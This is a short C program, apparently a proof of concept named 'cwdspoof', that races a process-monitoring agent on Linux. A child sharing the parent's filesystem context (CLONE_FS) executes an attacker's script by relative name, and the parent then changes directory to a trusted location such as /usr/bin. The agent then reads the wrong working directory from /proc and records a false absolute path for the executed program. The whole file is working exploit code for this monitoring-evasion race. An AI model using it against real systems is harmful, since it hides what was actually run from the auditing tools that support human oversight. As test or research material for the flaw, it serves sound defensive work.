// cwdspoof DIR NAME REALDIR: a child sharing our fs_struct (CLONE_FS) execs the
// relative name NAME from DIR (the attacker's script); as soon as its image
// changed we chdir to REALDIR (e.g. /usr/bin), which moves the child's cwd too,
// before the agent reads /proc/CHILD/cwd to make NAME absolute.
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
static char *name;
static char stack[65536];
static int child(void *a) { (void)a; execl(name, name, (char *)0); _exit(127); }
int main(int c, char **v) {
  if (c < 4) return 2;
  name = v[2];
  if (chdir(v[1])) { perror("chdir"); return 1; }
  char self[256], link[256], buf[256];
  ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1); self[n > 0 ? n : 0] = 0;
  pid_t pid = clone(child, stack + sizeof stack, CLONE_FS | SIGCHLD, 0);
  if (pid < 0) { perror("clone"); return 1; }
  snprintf(link, sizeof link, "/proc/%d/exe", pid);
  for (long i = 0; i < 50000000; i++) {
    n = readlink(link, buf, sizeof buf - 1);
    if (n > 0) { buf[n] = 0; if (strcmp(buf, self)) break; }
  }
  if (chdir(v[3])) perror("chdir real");
  int st; waitpid(pid, &st, 0);
  return WEXITSTATUS(st);
}
